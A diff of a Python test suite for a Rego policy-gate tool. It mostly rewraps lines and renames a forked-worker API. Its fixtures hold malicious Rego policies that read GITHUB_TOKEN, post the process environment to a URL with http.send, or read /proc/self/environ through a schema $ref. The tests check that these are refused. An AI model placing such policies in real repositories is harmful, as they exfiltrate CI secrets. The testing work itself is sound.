@@ -83,11 +83,13 @@ def reproductions(port: int) -> dict[str, str]:
         "opa-bracket": 'warn contains m if { m := base64.encode(opa["runtime"]().env.GITHUB_TOKEN) }\n',
         "http-bracket": (f'warn contains m if {{ r := http["send"]({{"method": "post", "url": "{url}", '
                          '"body": opa["runtime"]().env}); m := sprintf("%v", [r]) }\n'),
-        "net-bracket": 'warn contains m if { a := net["lookup_ip_addr"]("localhost"); m := concat(",", a) }\n',
+        "net-bracket": 'warn contains m if { a := net["lookup_ip_addr"]("localhost"); m := '
+                       'concat(",", a) }\n',
         "template-string": 'warn contains m if { m := $"{opa.runtime().env.GITHUB_TOKEN}" }\n',
         "raw-bracket-split": ('warn contains m if {\n\tm := base64.encode(opa[ # a comment between\n'
                               '\t\t`runtime`\n\t]().env.GITHUB_TOKEN)\n}\n'),
-        "schema-file-ref": ('warn contains m if { r := json.match_schema({}, {"$ref": "file:///proc/self/environ"});'
+        "schema-file-ref": ('warn contains m if { r := json.match_schema({}, {"$ref": '
+                            '"file:///proc/self/environ"});'
                             ' m := r[1][0].error }\n'),
     }
 
@@ -116,8 +118,8 @@ def secrets_seen(root: Path, *texts: str) -> list[str]:
 
 @pytest.mark.parametrize("engine", ENGINES)
 @pytest.mark.parametrize("case", list(reproductions(0)))
-def test_each_reproduction_is_refused_on_both_engines_and_leaks_nothing(tmp_path, monkeypatch, capsys, listener,
-                                                                        engine, case):
+def test_each_reproduction_is_refused_on_both_engines_and_leaks_nothing(tmp_path, monkeypatch, capsys,
+                                                                        listener, engine, case):
     monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
     root = workspace(tmp_path, reproductions(listener.port)[case])
     report = tmp_path / "report.json"
@@ -183,7 +185,8 @@ def test_capabilities_leave_out_what_the_guard_refuses_and_keep_the_features():
     assert caps["allow_net"] == []
     assert {"rego_v1", "template_strings", "keywords_in_refs"} <= set(caps["features"])
     assert not {n for n in names if guard.sandbox_reason(n)}
-    assert {"base64.encode", "time.now_ns", "io.jwt.decode_verify", "trace", "print", "rego.metadata.rule"} <= names
+    assert {"base64.encode", "time.now_ns", "io.jwt.decode_verify", "trace", "print",
+            "rego.metadata.rule"} <= names
 
 
 def test_capabilities_file_is_opa_v1_18_1_minus_the_sandbox(opa_bin):
@@ -206,7 +209,7 @@ def test_opa_compiler_refuses_each_reproduction_past_the_guard(opa_bin, case):
     with pytest.raises(PolicyError) as refused:
         capabilities.check(policies, opa_bin)
     message = str(refused.value)
-    assert message.startswith("policies/evil.rego:3") or message.startswith("policies/evil.rego:4"), message
+    assert message.startswith(("policies/evil.rego:3", "policies/evil.rego:4")), message
     assert "undefined function" in message and "capabilities" in message
 
 
@@ -223,16 +226,18 @@ def test_capabilities_check_runs_once_per_policy_set(opa_bin, library, monkeypat
 
 
 @pytest.mark.parametrize("command", ["check", "bundle", "evaluate"])
-def test_opa_compiler_refuses_in_check_bundle_build_and_opa_local(opa_bin, tmp_path, monkeypatch, capsys, no_guard,
-                                                                 listener, command):
+def test_opa_compiler_refuses_in_check_bundle_build_and_opa_local(opa_bin, tmp_path, monkeypatch, capsys,
+                                                                  no_guard, listener, command):
     monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
     monkeypatch.setenv("OPA_BIN", opa_bin)
     capabilities._passed.clear()
     root = workspace(tmp_path, reproductions(listener.port)["http-bracket"])
     config = str(root / "gate.yaml")
     argv = {"check": ["check", "--config", config, "--engine", "embedded"],
-            "bundle": ["bundle", "build", "--config", config, "--revision", "r1", "-o", str(tmp_path / "b.tar.gz")],
-            "evaluate": ["evaluate", "--config", config, "--now", EXAMPLE_NOW, "--engine", "opa-local"]}[command]
+            "bundle": ["bundle", "build", "--config", config, "--revision", "r1", "-o",
+                       str(tmp_path / "b.tar.gz")],
+            "evaluate": ["evaluate", "--config", config, "--now", EXAMPLE_NOW, "--engine",
+                         "opa-local"]}[command]
     assert main(argv) == 3
     out, err = capsys.readouterr()
     assert "policies/evil.rego:3: does not compile: undefined function" in err and "capabilities" in err
@@ -255,8 +260,11 @@ def test_forked_regopy_child_finds_no_token_in_its_environment(monkeypatch):
     if not bounded.fork_available():
         pytest.skip("fork is not used here")
     monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
-    call = bounded.ForkedCall(lambda: embedded.compiled(ENV_POLICY, "{}"), embedded.WHAT)
-    env = json.loads(call.finish(b"{}", 30))["env"]
+    call = bounded.ForkedWorker(lambda: embedded.compiled(ENV_POLICY, "{}"), embedded.WHAT)
+    try:
+        env = json.loads(call.ask(b"{}", 30))["env"]
+    finally:
+        call.close()
     assert TOKEN not in json.dumps(env)
     assert set(env) <= set(bounded.NEEDED) and "PATH" in env
 
@@ -272,7 +280,7 @@ def test_worker_process_finds_no_token_in_its_environment(monkeypatch):
 
 def test_the_parent_keeps_its_environment(monkeypatch):
     monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
-    bounded.ForkedCall(lambda: (lambda _r: "{}"), "probe").finish(b"", 30)
+    bounded.run_forked(lambda: "{}", 30, "probe")
     import os
 
     assert os.environ["GITHUB_TOKEN"] == TOKEN
